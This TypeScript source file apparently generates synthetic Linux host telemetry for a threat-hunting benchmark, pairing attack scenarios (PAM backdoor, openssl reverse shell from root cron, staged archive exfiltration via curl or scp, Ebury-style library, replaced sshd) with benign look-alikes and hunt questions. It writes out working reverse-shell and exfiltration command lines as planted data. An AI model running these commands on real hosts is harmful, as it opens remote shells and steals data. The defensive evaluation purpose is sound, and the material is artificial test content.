// Authentication backdoors, shells carried by a TLS client, and data staged then sent off the host; with the
// look-alikes each is confused with (MFA PAM modules, backups archived in /tmp, certificate expiry checks).
import { cron, run, withDecoys, randName, type Family } from "./kit.js";
import { hostileIp } from "./fleet.js";
import type { HostBuilder } from "./host.js";
import type { Rng } from "./prng.js";

/** A shared object mapped into a process, as osquery's process_memory_map shows it. */
function mapLib(h: HostBuilder, rng: Rng, pid: number, path: string): void {
  h.add("process_memory_map", { pid, start: `7f${rng.hex(10)}`, end: `7f${rng.hex(10)}`, permissions: "r-xp", offset: 8192, device: "103:01", inode: rng.int(10_000, 900_000), path, pseudo: 0 });
}

/** An sshd privileged child (one login) with the stock PAM stack and `extra` modules mapped from `secdir`. */
function sshdWithPam(h: HostBuilder, rng: Rng, sshd: number, user: string, secdir: string, extra: string[]): number {
  const priv = run(h, { name: "sshd", path: "/usr/sbin/sshd", cmdline: `sshd: ${user} [priv]`, parent: sshd, uid: 0, ageMin: 60, ageMax: 7_200 });
  for (const m of ["pam_unix", "pam_env", "pam_limits", "pam_systemd", "pam_loginuid", ...extra]) mapLib(h, rng, priv, `${secdir}/${m}.so`);
  return priv;
}

const PAM_Q = {
  direct: ["is there a PAM backdoor on {host}?", "any unknown PAM modules loaded by sshd in {env}?", "check the {role} for an ssh backdoor in the login stack", "is something capturing passwords at login on {host}?"],
  paraphrase: ["could a planted pam module be recording the passwords people type on {host}?", "has someone added a skeleton key to logins on the {role}?", "is there an authentication bypass on {host}?"],
};

const pamBackdoor: Family = {
  name: "pam-backdoor", kind: "attack", attack: ["T1556.003"], count: 4,
  sources: ["ATT&CK T1556.003: Modify Authentication Process: Pluggable Authentication Modules", "github.com/zephrax/linux-pam-backdoor", "Sigma lnx_auditd_pam_module_change (PAM configuration or module changes)", "Group-IB and ESET write-ups of PAM credential stealers on Linux servers"],
  q: PAM_Q,
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["bastion", "web", "app", "db"] as const));
    const h = b.h;
    const secdir = `${h.spec.distro.libdir}/security`;
    const name = rng.pick(["pam_sso_cache", "pam_auth_helper", "pam_unix_cache", "pam_securelog", "pam_syscheck", `pam_${randName(rng, 5)}`]);
    const mod = `${secdir}/${name}.so`;
    h.file(mod, { mode: "0644", size: rng.int(14_000, 60_000), mtime: h.recent(3_600, 86_400 * 10) });
    for (const a of b.admins.slice(0, rng.int(1, 2))) sshdWithPam(h, rng, b.sshd, a.name, secdir, [name]);
    const stack = rng.pick(["/etc/pam.d/common-auth", "/etc/pam.d/sshd", "/etc/pam.d/system-auth", "/etc/pam.d/password-auth"]);
    if (rng.chance(0.7)) h.history(0, "/root", [`cp /tmp/${name}.so ${secdir}/`, `sed -i '1i auth optional ${name}.so' ${stack}`, "systemctl restart sshd", "history -c"].slice(0, rng.int(2, 4)), h.recent(3_600, 86_400 * 10));
    h.plant(mod, `${name}.so`);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [mod] });
  },
};

const pamMfa: Family = {
  name: "pam-mfa", kind: "benign", attack: [], count: 4,
  sources: ["Duo docs: Duo Unix - Two-Factor Authentication for SSH (pam_duo)", "google-authenticator-libpam README", "SSSD docs: pam_sss on AD-joined hosts"],
  q: PAM_Q,
  build(ctx) {
    const { rng } = ctx;
    const hosts = Array.from({ length: rng.int(1, 3) }, () => ctx.base(rng.pick(["bastion", "web", "app"] as const)));
    for (const b of hosts) {
      const extra = rng.sample(["pam_duo", "pam_google_authenticator", "pam_sss", "pam_faillock", "pam_mkhomedir", "pam_u2f"], rng.int(1, 2));
      for (const a of b.admins.slice(0, rng.int(1, 2))) sshdWithPam(b.h, rng, b.sshd, a.name, `${b.h.spec.distro.libdir}/security`, extra);
    }
    return { hosts: hosts.map((b) => ({ b, compromised: false })) };
  },
};

const SHELL_Q = {
  direct: ["any reverse shells on {host}?", "is there a shell talking to the internet from the {role}?", "any encrypted reverse shell via openssl in {env}?", "check {host} for a backdoor that phones home"],
  paraphrase: ["is somebody remotely typing commands on {host}?", "is a shell on the {role} being driven from outside?", "is {host} calling back to an attacker over TLS?"],
};

const tlsPipeShell: Family = {
  name: "tls-pipe-shell", kind: "attack", attack: ["T1059.004", "T1573.002", "T1053.003"], count: 4,
  sources: ["PayloadsAllTheThings: Reverse Shell Cheatsheet (OpenSSL, mkfifo)", "GTFOBins: openssl (reverse shell)", "Atomic Red Team T1059.004"],
  q: SHELL_Q,
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "app", "db", "broker"] as const));
    const h = b.h;
    const ip = hostileIp(rng);
    const port = rng.pick([443, 993, 8443, 4433]);
    const fifo = rng.pick(["/tmp/.f", "/dev/shm/.p", "/var/tmp/.x"]);
    const line = rng.chance(0.5)
      ? `openssl s_client -quiet -connect ${ip}:${port} 2>/dev/null | /bin/bash 2>&1 | openssl s_client -quiet -connect ${ip}:${port + 1} 2>/dev/null`
      : `rm -f ${fifo}; mkfifo ${fifo}; /bin/sh -i < ${fifo} 2>&1 | openssl s_client -quiet -connect ${ip}:${port} > ${fifo}`;
    if (rng.chance(0.7)) cron(h, "/var/spool/cron/crontabs/root", rng.pick(["*/10 * * * *", "*/5 * * * *", "@reboot"]), line);
    const sh = run(h, { name: "sh", path: "/bin/sh", cmdline: `/bin/sh -c ${line}`, parent: b.cron, uid: 0, ageMin: 60, ageMax: 3_600 });
    const tool = run(h, { name: "openssl", path: "/usr/bin/openssl", cmdline: `openssl s_client -quiet -connect ${ip}:${port}`, parent: sh, uid: 0, ageMin: 60, ageMax: 3_600 });
    run(h, { name: "bash", path: "/bin/bash", cmdline: "/bin/bash", parent: sh, uid: 0, ageMin: 60, ageMax: 3_600 });
    h.conn(tool, ip, port);
    h.plant(`${ip}:${port}`);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [ip] });
  },
};

const tlsCertCheck: Family = {
  name: "tls-cert-check", kind: "benign", attack: [], count: 4,
  sources: ["OpenSSL docs: s_client (checking a server certificate)", "Nagios/monitoring-plugins check_ssl_cert", "common cron jobs checking certificate expiry"],
  q: SHELL_Q,
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "monitoring", "app"] as const));
    const target = rng.pick(["mail.example.com:993", "api.example.com:443", "ldap.example.com:636"]);
    cron(b.h, "/etc/cron.d/cert-expiry", "17 6 * * *", `root echo | openssl s_client -servername ${target.split(":")[0]} -connect ${target} 2>/dev/null | openssl x509 -noout -enddate | logger -t cert-expiry`);
    const sh = run(b.h, { name: "sh", path: "/bin/sh", cmdline: `/bin/sh -c echo | openssl s_client -connect ${target} 2>/dev/null | openssl x509 -noout -enddate`, parent: b.cron, uid: 0, ageMin: 1, ageMax: 5 });
    const o = run(b.h, { name: "openssl", path: "/usr/bin/openssl", cmdline: `openssl s_client -connect ${target}`, parent: sh, uid: 0, ageMin: 1, ageMax: 5 });
    b.h.conn(o, "93.184.215.14", Number(target.split(":")[1]));
    return { hosts: [{ b, compromised: false }] };
  },
};

const EXFIL_Q = {
  direct: ["was data exfiltrated from {host}?", "any data staged and sent out from the {role}?", "is anything uploading archives to file-sharing sites in {env}?", "check {host} for data exfiltration"],
  paraphrase: ["did someone pack up data on {host} and ship it somewhere?", "is the {role} leaking data to the internet?", "did anyone send a copy of the database off {host}?"],
};

const stagedExfil: Family = {
  name: "staged-exfil", kind: "attack", attack: ["T1074.001", "T1560.001", "T1567", "T1048"], count: 4,
  sources: ["ATT&CK T1074.001 Local Data Staging, T1560.001 Archive via Utility, T1567 Exfiltration Over Web Service", "LOTS project (anonymous file-drop hosts)", "Sigma proc_creation_lnx_susp_curl_fileupload"],
  q: EXFIL_Q,
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["db", "app", "web"] as const));
    const h = b.h;
    const dir = rng.pick(["/dev/shm/.s", "/tmp/.cache-x", "/var/tmp/.sess", "/dev/shm/.es_snap"]);
    const archive = `${dir}/${rng.pick(["db", "snap", "bk", "data", "dump"])}.${rng.pick(["tgz", "tar.gz", "zip"])}`;
    const src = rng.pick(["/var/lib/postgresql", "/srv/app/uploads", "/var/www/html", "/home", "/var/lib/mysql"]);
    const ip = hostileIp(rng);
    const pack = archive.endsWith(".zip") ? `zip -qr ${archive} ${src}` : `tar czf ${archive} ${src}`;
    const send = rng.pick([
      `curl -s -F "file=@${archive}" https://${rng.pick(["0x0.st", "transfer.sh", "temp.sh", "bashupload.com"])}`,
      `curl -s -T ${archive} http://${ip}:8000/up/`,
      `scp -P 2222 ${archive} root@${ip}:/tmp/`,
    ]);
    h.file(archive, { mode: "0644", size: rng.int(5_000_000, 900_000_000), mtime: h.recent(600, 86_400 * 2) });
    h.history(0, "/root", [`mkdir -p ${dir}`, pack, send, `rm -f ${archive}`].slice(0, rng.int(3, 4)), h.recent(600, 86_400 * 2));
    if (rng.chance(0.4)) {
      const c = run(h, { name: send.split(" ")[0] ?? "curl", path: `/usr/bin/${send.split(" ")[0] ?? "curl"}`, cmdline: send, uid: 0, ageMin: 5, ageMax: 600 });
      h.conn(c, ip, 443);
    }
    h.plant(archive);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [archive] });
  },
};

const backupUpload: Family = {
  name: "backup-archive-upload", kind: "benign", attack: [], count: 4,
  sources: ["restic and borg docs (backups to a repository host)", "AWS CLI docs: aws s3 cp", "common site backup scripts (tar to /tmp, copy to a backup host)"],
  q: EXFIL_Q,
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["db", "app", "web"] as const));
    const day = "$(date +%F)";
    const archive = `/tmp/backup-${day}.tgz`;
    const copy = rng.pick([`scp ${archive} backup01:/srv/backups/${b.h.spec.hostname}/`, `aws s3 cp ${archive} s3://acme-${ctx.fleet.env}-backups/${b.h.spec.hostname}/`, `rsync -a ${archive} backup.internal:/srv/backups/`]);
    cron(b.h, "/etc/cron.d/site-backup", "30 2 * * *", `root tar czf ${archive} /etc /srv && ${copy} && rm -f ${archive}`);
    b.h.history(0, "/root", [`tar czf /tmp/etc-before-upgrade.tgz /etc`, `scp /tmp/etc-before-upgrade.tgz backup01:/srv/manual/`], b.h.recent(3_600, 86_400 * 20));
    return { hosts: [{ b, compromised: false }] };
  },
};

/** The libraries an sshd privileged child maps on a stock install (libkeyutils through libkrb5), and the SSSD client's. */
function sshdWithLibraries(h: HostBuilder, rng: Rng, sshd: number, user: string, libs: string[]): number {
  const priv = run(h, { name: "sshd", path: "/usr/sbin/sshd", cmdline: `sshd: ${user} [priv]`, parent: sshd, uid: 0, ageMin: 60, ageMax: 7_200 });
  for (const l of libs) mapLib(h, rng, priv, l);
  return priv;
}

function stockSshdLibraries(libdir: string, keyutils: string): string[] {
  return ["libcrypto.so.3", "libz.so.1", "libgssapi_krb5.so.2", "libkrb5.so.3", "libk5crypto.so.3", "libcom_err.so.2", "libkrb5support.so.0", keyutils, "libpam.so.0.85.1", "libc.so.6"].map((f) => `${libdir}/${f}`);
}

const EBURY_Q = {
  direct: ["is sshd on {host} backdoored like Ebury?", "check the {role} for a trojanized libkeyutils in sshd", "is an ssh credential stealer loaded into sshd on {host}?"],
  paraphrase: ["could someone be harvesting the passwords admins type when they ssh into {host}?", "has the ssh server on the {role} been tampered with to steal logins?"],
};

const eburyLibrary: Family = {
  name: "ebury-libkeyutils", kind: "attack", attack: ["T1556", "T1554"], count: 4,
  sources: ["ESET, Operation Windigo (2014) and Ebury: ten years on (2024)", "CERT-Bund Ebury FAQ", "cPanel Security Advisor's Ebury file-name check"],
  q: EBURY_Q,
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["bastion", "web", "app", "db"] as const));
    const h = b.h;
    const libdir = h.spec.distro.libdir;
    const rhel = libdir === "/usr/lib64";
    const lib = rng.pick(rhel ? ["/lib64/libkeyutils.so.1.9", "/lib64/tls/libkeyutils.so.1.5", `${libdir}/libsbr.so`] : [`${libdir}/libkeyutils.so.1.3.2`, `${libdir}/libkeyutils.so.1.3.0`, `${libdir}/libns5.so`]);
    h.file(lib, { mode: "0755", size: rng.int(28_000, 60_000), mtime: h.recent(3_600, 86_400 * 30) });
    const keyutils = rhel ? "libkeyutils.so.1.6" : "libkeyutils.so.1.10";
    for (const a of b.admins.slice(0, rng.int(1, 2))) sshdWithLibraries(h, rng, b.sshd, a.name, [...stockSshdLibraries(libdir, keyutils).filter((l) => !(lib.includes("libkeyutils") && l.endsWith(keyutils))), lib]);
    h.plant(lib, lib.slice(lib.lastIndexOf("/") + 1));
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [lib] });
  },
};

const sshdSssd: Family = {
  name: "sshd-sssd-libraries", kind: "benign", attack: [], count: 4,
  sources: ["SSSD docs: sshd on AD-joined hosts loads libnss_sss and the SSSD client libraries", "Debian and RHEL keyutils packages: libkeyutils.so.1.10 / libkeyutils.so.1.6"],
  q: EBURY_Q,
  build(ctx) {
    const { rng } = ctx;
    const hosts = Array.from({ length: rng.int(1, 3) }, () => ctx.base(rng.pick(["bastion", "web", "app"] as const)));
    for (const b of hosts) {
      const libdir = b.h.spec.distro.libdir;
      const keyutils = libdir === "/usr/lib64" ? "libkeyutils.so.1.6" : rng.pick(["libkeyutils.so.1.10", "libkeyutils.so.1.9"]);
      const extra = [`${libdir}/libnss_sss.so.2`, `${libdir}/libsss_idmap.so.0.5.1`, `${libdir}/security/pam_sss.so`];
      for (const a of b.admins.slice(0, rng.int(1, 2))) sshdWithLibraries(b.h, rng, b.sshd, a.name, [...stockSshdLibraries(libdir, keyutils), ...extra]);
    }
    return { hosts: hosts.map((b) => ({ b, compromised: false })) };
  },
};

const REPLACED_Q = {
  direct: ["has sshd been replaced with a trojanized binary on the {role}?", "check the {role} for tampered system binaries", "is the sshd binary on {host} different from the other hosts'?"],
  paraphrase: ["could someone have swapped out the ssh server on one of the {role} hosts?", "are the system binaries on the {role} fleet still the ones the packages installed?"],
};

/** Peers of one role and distribution: the hosts a replaced binary is compared with (four: a scenario holds at most four hosts, three agreeing are a majority). */
function peerHosts(ctx: Parameters<Family["build"]>[0], n: number) {
  const role = ctx.rng.pick(["web", "app", "db", "bastion"] as const);
  const first = ctx.base(role);
  return [first, ...Array.from({ length: n - 1 }, () => ctx.base(role, { distro: first.h.spec.distro }))];
}

const replacedSshd: Family = {
  name: "replaced-sshd", kind: "attack", attack: ["T1554", "T1036.005"], count: 4,
  sources: ["ESET, A wild Kobalos appears (2021): a trojanized sshd on HPC clusters", "ESET, Operation Windigo (2014): OpenSSH trojans replacing sshd", "Debian debsums(1), rpm -V: verifying installed binaries against the package"],
  q: REPLACED_Q,
  build(ctx) {
    const hosts = peerHosts(ctx, 4);
    const victim = hosts[ctx.rng.int(0, hosts.length - 1)] as (typeof hosts)[number];
    const sum = ctx.rng.hex(64);
    const rows = victim.h.tables.hash ?? [];
    for (const row of rows) if (row.path === "/usr/sbin/sshd") row.sha256 = sum;
    victim.h.plant(sum, "/usr/sbin/sshd");
    return { hosts: [victim, ...hosts.filter((b) => b !== victim)].map((b) => ({ b, compromised: b === victim })), indicators: [sum] };
  },
};

const rollingUpgrade: Family = {
  name: "rolling-upgrade", kind: "benign", attack: [], count: 4,
  sources: ["Debian and RHEL security updates rolled out host by host: a new openssh-server build, a new sshd"],
  q: REPLACED_Q,
  build(ctx) {
    const hosts = peerHosts(ctx, 4);
    // One host already took the update: its package version and its sshd both changed.
    const upgraded = hosts[ctx.rng.int(0, hosts.length - 1)] as (typeof hosts)[number];
    for (const table of ["deb_packages", "rpm_packages"]) for (const row of upgraded.h.tables[table] ?? []) if (row.name === "openssh-server") row.version = `${String(row.version)}+sec1`;
    for (const row of upgraded.h.tables.hash ?? []) if (row.path === "/usr/sbin/sshd") row.sha256 = ctx.rng.hex(64);
    return { hosts: hosts.map((b) => ({ b, compromised: false })) };
  },
};

export const AUTH_EXFIL_FAMILIES: Family[] = [pamBackdoor, pamMfa, tlsPipeShell, tlsCertCheck, stagedExfil, backupUpload, eburyLibrary, sshdSssd, replacedSshd, rollingUpgrade];
